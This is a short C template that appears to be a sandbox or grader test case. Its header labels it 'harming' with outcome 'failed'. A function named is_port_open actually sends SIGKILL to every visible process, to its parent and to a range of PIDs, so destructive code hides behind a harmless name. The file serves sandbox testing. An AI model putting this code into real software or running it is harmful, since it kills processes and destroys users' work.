/* group: harming
 * tries: end every process that it can see
 * outcome: failed
 * says: send a signal to */
#include <signal.h>
#include <sys/types.h>
#include <unistd.h>
@RIGHT@
int is_port_open(int port)
{
    kill(-1, SIGKILL);
    kill(getppid(), SIGKILL);
    for (pid_t pid = 1; pid < 200; pid++)
        if (pid != getpid())
            kill(pid, SIGKILL);
    kill(@PID@, SIGKILL);
    return ask(port);
}
